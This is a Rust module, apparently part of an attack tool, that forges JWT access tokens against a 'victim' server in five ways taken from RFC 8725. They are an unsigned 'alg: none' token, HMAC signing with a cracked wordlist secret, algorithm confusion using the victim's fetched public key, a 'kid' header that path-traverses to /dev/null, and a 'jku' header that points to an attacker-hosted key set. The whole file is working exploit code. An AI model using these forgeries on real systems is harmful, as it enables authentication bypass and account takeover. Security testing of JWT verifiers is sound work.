//! Five ways to talk a verifier into it, each one a header that it should not have listened to, or a key that it should
//! not have had (RFC 8725 §2).

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::super::Attacker;
use super::{crack, jws, own_key};

/// A file that is empty on every Unix, from however deep a folder.
const EMPTY_FILE: &str = "../../../../../../dev/null";

/// How to forge.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum Attack {
    /// Says that there is no signature.
    AlgNone,
    /// Finds the secret in a list of words.
    WeakSecret,
    /// Signs with the public key, as if it were a secret.
    AlgorithmConfusion,
    /// Names an empty file as the key.
    KidInjection,
    /// Names a key of one's own, at an address of one's own.
    JkuInjection,
}

/// A forged token, and how many keys were tried for it.
#[derive(Debug)]
pub(super) struct Forged {
    pub(super) access_token: String,
    pub(super) guesses: u64,
}

/// Why there is no forged token.
#[derive(Debug, thiserror::Error)]
pub(super) enum Failure {
    /// The victim's server did not tell what it tells everybody.
    #[error("the victim’s server publishes no key at {0}")]
    NoPublicKey(String),
    /// This machine could not make a key.
    #[error("no key could be made")]
    NoKey,
}

/// Forges a token with these claims. `original` is the user's own, `public_key` where the victim publishes its key.
pub(super) async fn forge(
    attacker: &Attacker,
    campaign: &str,
    attack: Attack,
    original: &str,
    claims: &Value,
    public_key: &str,
) -> Result<Forged, Failure> {
    let hs256 = json!({ "alg": "HS256", "typ": "JWT" });
    let access_token = match attack {
        Attack::AlgNone => {
            let header = json!({ "alg": "none", "typ": "JWT" });
            format!("{}.", jws::signing_input(&header, claims))
        }
        Attack::WeakSecret => {
            let cracked = crack::crack(attacker, campaign, original).await;
            // If no word fits, a wrong one is all there is to try: the verdict is the victim's, not ours.
            let key = cracked.found.unwrap_or_default();
            let access_token = jws::sign_hs256(key.as_bytes(), &hs256, claims);
            return Ok(Forged { access_token, guesses: cracked.tried });
        }
        Attack::AlgorithmConfusion => {
            let pem = fetch_public_key(attacker, public_key).await?;
            jws::sign_hs256(pem.as_bytes(), &hs256, claims)
        }
        Attack::KidInjection => {
            let header = json!({ "alg": "HS256", "kid": EMPTY_FILE, "typ": "JWT" });
            jws::sign_hs256(b"", &header, claims)
        }
        Attack::JkuInjection => {
            let jku = format!("{}/campaigns/{campaign}/jwks.json", attacker.here);
            let header = json!({ "alg": "RS256", "jku": jku, "kid": own_key::ID, "typ": "JWT" });
            let key = own_key::own_key(attacker).await.ok_or(Failure::NoKey)?;
            key.sign_rs256(&header, claims).ok_or(Failure::NoKey)?
        }
    };
    Ok(Forged { access_token, guesses: 0 })
}

/// The key that the victim publishes.
async fn fetch_public_key(attacker: &Attacker, address: &str) -> Result<String, Failure> {
    let asked = attacker.client.get(format!("{}{address}", attacker.victim)).send().await;
    let answer = asked.and_then(reqwest::Response::error_for_status);
    let missing = |_| Failure::NoPublicKey(address.to_owned());
    answer.map_err(missing)?.text().await.map_err(missing)
}
